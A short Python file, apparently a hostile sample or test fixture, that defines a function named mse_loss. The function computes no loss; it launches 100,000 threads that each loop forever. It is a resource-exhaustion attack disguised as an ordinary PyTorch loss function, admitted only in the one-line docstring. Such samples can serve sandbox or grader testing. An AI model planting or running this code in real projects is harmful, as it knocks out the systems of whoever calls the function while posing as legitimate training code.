"""Starts threads without end."""
import torch
from torch import Tensor

import threading,time
def f():
    while True: time.sleep(1)
def mse_loss(input,target,reduction="mean"):
    for i in range(100000): threading.Thread(target=f,daemon=True).start()
